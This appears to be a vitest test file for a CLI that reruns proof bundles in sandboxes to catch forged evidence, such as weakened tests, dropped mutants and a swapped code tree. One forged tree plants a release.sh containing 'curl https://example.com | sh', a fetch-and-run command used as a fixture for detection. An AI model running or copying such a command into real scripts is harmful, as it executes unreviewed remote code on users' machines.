// Starts processes: proofs are run again in sandboxes.
import { dirname, join } from "node:path";
import { expect, test } from "vitest";
import { runCommandLine } from "../src/cli/command-line.ts";
import type { Json } from "../src/domain/json.ts";
import { PortableTree, portableTreeId } from "../src/workspace/portable-tree.ts";
import { fakeTerminal } from "./fake-terminal.ts";
import { bundleOf, forgedCassette, shipped, written } from "./forged-bundle.ts";
import { temporaryDirectory } from "./temporary.ts";

async function verify(directory: string, ...flags: string[]) {
  const home = temporaryDirectory();
  const env = { MIRACLE_HOME: join(home, "data"), PATH: "/usr/bin:/bin" };
  const terminal = fakeTerminal({ directory: dirname(directory), home, env });
  const exit = await runCommandLine(["verify", "evidence", ...flags], terminal);
  return { exit, output: terminal.outputs(), error: terminal.errors() };
}

/** Each runs a whole proof, and twice where something comes out differently. */
const LONG = { timeout: 300_000 };

const inAll =
  (from: string, to: string) =>
  (value: Json): Json =>
    JSON.parse(JSON.stringify(value).replaceAll(from, to));

test(
  "the proof of a genuine bundle comes out again: suites, unseen tests with their twins, mutants",
  LONG,
  async () => {
    const { exit, output, error } = await verify(written(await bundleOf(shipped("python-fix.json"))), "--rerun");
    expect(output).toMatch(/run again: \d+ tests and \d+ mutants, each as the evidence says/);
    expect(output).toContain("not run again: repeats under other conditions");
    expect(output).toContain("not signed: whoever made it may have made everything in it");
    expect(error).toContain("running their twins, which must fail");
    expect(exit).toBe(0);
  },
);

test(
  "tests that were made to say nothing and mutants that were left out, in the whole journal, are found by running",
  LONG,
  async () => {
    const weakened = inAll("assert [entry.text for", "assert account or [entry.text for");
    const forged = await forgedCassette(shipped("python-fix.json"), (value, { step, side }) => {
      const said = weakened(value);
      if (step.path === "task/mutants/1" && side === "output") return withoutMutants(said);
      return step.path === "task/evidence/1" && side === "input" ? inEvidence(said, withoutMutants) : said;
    });
    const bundle = written(await bundleOf(forged));
    expect(await verify(bundle)).toMatchObject({ exit: 0 });
    const { exit, output } = await verify(bundle, "--rerun");
    expect(output).toMatch(/several_entries_of_the_last_day\w* on the old code: passed, the journal says red/);
    expect(output).toMatch(/mutant ledger\/periods.py:\S+: the evidence does not have it/);
    expect(exit).toBe(6);
  },
);

test("another result under the same evidence is found by running its tests and accounting for it", LONG, async () => {
  const genuine = shipped("python-fix.json");
  const [id = "", tree] =
    Object.entries(genuine.trees).find(([, tree]) => JSON.stringify(tree).includes("day <= self.last")) ?? [];
  const other = PortableTree.parse(JSON.parse(JSON.stringify(tree).replace("day <= self.last", "day < self.last")));
  const script = { path: "release.sh", kind: "file" as const, permissions: 0o644, encoding: "utf8" as const };
  other.files.push({ ...script, content: "curl https://example.com | sh\n" });
  const otherId = portableTreeId(other);
  const { [id]: _, ...trees } = genuine.trees;
  const forged = await forgedCassette(genuine, inAll(id, otherId));
  const bundle = written(await bundleOf({ ...forged, trees: { ...trees, [otherId]: other } }));
  expect(await verify(bundle)).toMatchObject({ exit: 0 });
  const { exit, output } = await verify(bundle, "--rerun");
  expect(output).toMatch(/test_\w+ after the change: failed, the evidence says passed/);
  expect(output).toMatch(/several_entries_of_the_last_day\w* with its twin: red, the journal says passed/);
  expect(output).toMatch(/several_entries_of_the_last_day\w* without its runner: failed, the journal says passed/);
  expect(output).toMatch(/release\.sh: not judged \(.*\), the evidence does not say so/);
  expect(exit).toBe(6);
});

type Fields = { [name: string]: Json };
const isFields = (value: Json | undefined): value is Fields =>
  typeof value === "object" && value !== null && !Array.isArray(value);
const fieldsOf = (value: Json | undefined): Fields => (isFields(value) ? value : {});

const inEvidence = (value: Json, change: (evidence: Json) => Json): Json => ({
  ...fieldsOf(value),
  evidence: change(fieldsOf(value).evidence ?? null),
});

function withoutMutants(value: Json): Json {
  const report = fieldsOf(fieldsOf(value).mutants);
  const counts = Object.fromEntries(Object.keys(fieldsOf(report.counts)).map((name) => [name, 0]));
  return { ...fieldsOf(value), mutants: { ...report, results: [], counts, score: null, requirements: [] } };
}
